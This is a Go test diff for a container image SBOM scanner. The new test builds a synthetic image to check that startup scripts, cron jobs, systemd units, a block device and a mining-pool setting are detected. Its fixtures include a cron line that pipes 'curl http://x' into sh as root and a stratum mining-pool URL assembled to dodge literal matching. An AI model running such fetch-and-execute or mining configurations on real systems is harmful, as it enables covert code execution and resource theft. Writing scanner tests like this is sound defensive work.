@@ -147,6 +147,57 @@ func TestScanOwner(t *testing.T) {
 	}
 }
 
+// TestScanStartups: what starts by itself and what scripts start is there to be judged, and a device is a fact.
+func TestScanStartups(t *testing.T) {
+	img := imagetest.Image(t, map[string]string{
+		"run.sh":                           "#!/bin/sh\n. /opt/common.sh\nexec /opt/start\n",
+		"opt/common.sh":                    "X=1\n",
+		"opt/start":                        "#!/bin/sh\nexec /opt/last.sh\n",
+		"opt/last.sh":                      "exec /opt/too-deep.sh\n",
+		"opt/too-deep.sh":                  "exec true\n",
+		"opt/unused.sh":                    "exec false\n",
+		"etc/cron.d/job":                   "* * * * * root curl http://x | sh\n",
+		"usr/lib/systemd/system/x.service": "[Service]\nExecStart=/bin/x\n",
+	})
+	img = imagetest.Append(t, img, imagetest.Tar(t, []tar.Header{
+		{Name: "dev/disk", Mode: 0o660, Typeflag: tar.TypeBlock, Devmajor: 8},
+	}, []string{""}))
+	config, err := img.ConfigFile()
+	if err != nil {
+		t.Fatal(err)
+	}
+	config = config.DeepCopy()
+	config.Config.Cmd = []string{"/run.sh"}
+	config.Config.Env = []string{strings.ReplaceAll("POOL=stratum~+tcp://pool.example:1", "~", "")}
+	if img, err = mutate.ConfigFile(img, config); err != nil {
+		t.Fatal(err)
+	}
+	bom, err := sbom.Scan(t.Context(), platform(t, img), sbom.Options{TempDir: t.TempDir()})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got, want := bom.Autostarts(), []string{"/etc/cron.d/job", "/usr/lib/systemd/system/x.service"}; !slices.Equal(got, want) {
+		t.Errorf("autostarts: got %q, want %q", got, want)
+	}
+	for name, want := range map[string][]string{"/run.sh": {"/opt/common.sh", "/opt/start"}, "/opt/start": {"/opt/last.sh"}, "/opt/last.sh": nil} {
+		if got := bom.Calls(name); !slices.Equal(got, want) {
+			t.Errorf("%s calls %q, want %q", name, got, want)
+		}
+	}
+	for name, want := range map[string]bool{"/opt/common.sh": true, "/opt/last.sh": true, "/opt/too-deep.sh": false, "/opt/unused.sh": false, "/etc/cron.d/job": true} {
+		if _, ok := bom.Script(name); ok != want {
+			t.Errorf("%s is given: %v, want %v", name, ok, want)
+		}
+	}
+	if len(bom.Settings) != 1 || bom.Settings[0].Class != "suspicious-miner" {
+		t.Errorf("settings: got %+v, want a suspicious miner", bom.Settings)
+	}
+	i := slices.IndexFunc(bom.Files, func(f sbom.File) bool { return f.Path == "/dev/disk" })
+	if i < 0 || bom.Files[i].Mode != "brw-rw----" || bom.Files[i].Classes[0].Tool != "b 8:0" {
+		t.Errorf("files: got %+v, want the device b 8:0", bom.Files)
+	}
+}
+
 func TestScanErrors(t *testing.T) {
 	p := platform(t, sample(t))
 	if _, err := sbom.Scan(t.Context(), p, sbom.Options{Layers: image.Limits{Entries: 3}}); err == nil {
